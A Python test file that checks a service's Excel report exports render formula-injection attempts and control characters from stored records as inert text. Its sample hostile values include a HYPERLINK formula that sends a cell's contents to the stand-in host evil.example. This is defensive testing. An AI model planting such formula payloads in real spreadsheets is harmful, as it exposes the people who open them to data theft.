"""An applicant's text in a report is shown as text: never a formula, never a reason for a 500.

Older rows still hold what the forms once let through (a stray \\x0b, a leading "="), so each test
writes the hostile value into the stored record directly, as such a row would have it, and downloads
the report the way staff do.
"""
import io
import json
import re
import zipfile
from datetime import datetime, timezone

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlalchemy import select, update

from service.audit import chain as audit
from service.applications.batch import batch_action
from service.platform.extensions import db
from service.applications.models import Application
from service.audit.models import AuditEvent
from service.accounts.models import User
from service.platform.transactions import transaction
from tests.api import ApiClient
from tests.scenario import Scenario

LINK = '=HYPERLINK("http://evil.example/?d="&D3,"点此查看")'
HOSTILE = [LINK, "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "朝阳\x0b区"]
SHOWN = [LINK, "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "朝阳区"]  # what the cells must hold
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def client(app, demo_passwords):
    return ApiClient(app.test_client())


def text_cells(response) -> dict:
    """Every text cell of the downloaded workbook by value, after checking none of them is a formula."""
    assert response.status_code == 200, response.data[:300]
    with zipfile.ZipFile(io.BytesIO(response.data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                formula = re.search(r"<f[ >].*?</f>", package.read(name).decode())
                assert formula is None, f"{name} holds a formula: {formula.group()}"
    cells = {}
    for sheet in load_workbook(io.BytesIO(response.data)):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not ILLEGAL_CHARACTERS_RE.search(cell.value), (sheet.title, cell.coordinate)
                    cells[cell.value] = cell
    return cells


def assert_shown_as_text(cells: dict, shown=SHOWN):
    for value in shown:
        assert value in cells, f"{value!r} is missing from the workbook"
        cell = cells[value]
        assert cell.data_type == "s"
        # Excel's own marker for "typed as text": it stays text even when someone edits the cell.
        assert cell.quotePrefix == value.startswith(FORMULA_STARTS), value


def as_an_older_row_would_have_it(application_id: int, form: dict) -> None:
    """A declaration recorded before the form refused such input: appended to the trail, chain intact."""
    chain = audit.application_chain(application_id)
    declared = db.session.scalars(select(AuditEvent).where(
        AuditEvent.chain == chain, AuditEvent.action == "task_completed",
        AuditEvent.element_id == "Task_declare_factory")).first()
    data = json.loads(declared.data)
    with transaction():
        audit.append(chain, actor=declared.actor, action="task_completed", element_id=declared.element_id,
                     application_id=application_id, data={**data, "form": {**data["form"], **form}})
    assert audit.verify_chain(chain).ok


def test_summary_table_keeps_an_applicants_formulas_and_control_characters_inert(users, round_, clock, client):
    s = Scenario(users, round_, clock).start(applicant="unit0").declare(who="unit0")
    link, plus, minus, at, tab, cr, control = HOSTILE
    as_an_older_row_would_have_it(s.application_id, {
        "county": control, "unit_name": link, "industry_codes": plus, "evaluation_standard": minus,
        "third_party_name": at, "contact_name": tab, "contact_phone": cr})
    s.city_review("recommend")

    response = client.get(f"/api/rounds/{round_}/summary-table", "changchun")  # was a 500 for the whole city
    cells = text_cells(response)
    assert_shown_as_text(cells)
    row = next(load_workbook(io.BytesIO(response.data))["绿色工厂"].iter_rows(min_row=3, max_row=3,
                                                                                  values_only=True))
    # 序号 and 推荐排序 come first (a preview: not frozen yet, so no rank).
    assert row[3:5] == ("朝阳区", LINK) and row[7:9] == ("+1", "-2+3") and row[10] == "@SUM(A1)"
    assert row[12:14] == ("\t=1+1", "\r=1+1")
    assert client.get(f"/api/rounds/{round_}/summary-table?city=220100", "staff").status_code == 200


def noticed_and_published(users, round_, clock, count: int) -> list[int]:
    ids = []
    for n in range(count):
        s = Scenario(users, round_, clock).start(applicant=f"unit{n}").declare(who=f"unit{n}")
        s.city_review("recommend").formal_review()
        s.expert_review("expert1", 80).expert_review("expert2", 80)
        ids.append(s.application_id)
    staff = db.session.get(User, users["staff"])
    with transaction():
        batch_action(message="start_notice", round_id=round_, application_ids=ids, user=staff)
    clock.set(datetime(2024, 8, 1, tzinfo=timezone.utc))
    Scenario(users, round_, clock).run_worker()  # the notice ends
    staff = db.session.get(User, users["staff"])
    with transaction():
        batch_action(message="publish", round_id=round_, application_ids=ids, user=staff)
    return ids


def test_notice_and_published_lists_keep_hostile_unit_names_inert(users, round_, clock, client):
    ids = noticed_and_published(users, round_, clock, len(HOSTILE))
    with transaction():
        for application_id, name in zip(ids, HOSTILE):
            db.session.execute(update(Application).where(Application.id == application_id).values(unit_name=name))

    for kind in ("notice", "published"):
        cells = text_cells(client.get(f"/api/rounds/{round_}/lists/{kind}.xlsx", "staff"))
        assert_shown_as_text(cells)
    page = client.client.get(f"/lists/{round_}/published")
    assert page.status_code == 200 and "共 7 家" in page.data.decode()


def test_statistics_keep_hostile_stage_names_inert(users, round_, clock, client):
    """Stage names come from the diagram an administrator uploads: the same rule holds for them."""
    ids = [Scenario(users, round_, clock).start(applicant=f"unit{n}").application_id for n in range(len(HOSTILE))]
    with transaction():
        for application_id, stage in zip(ids, HOSTILE):
            db.session.execute(update(Application).where(Application.id == application_id).values(stage=stage))

    cells = text_cells(client.get(f"/api/rounds/{round_}/statistics.xlsx", "staff"))
    assert_shown_as_text(cells)
    assert cells["@SUM(A1)"].row >= 3 and cells["@SUM(A1)"].column == 1  # a data row, in the 环节 column
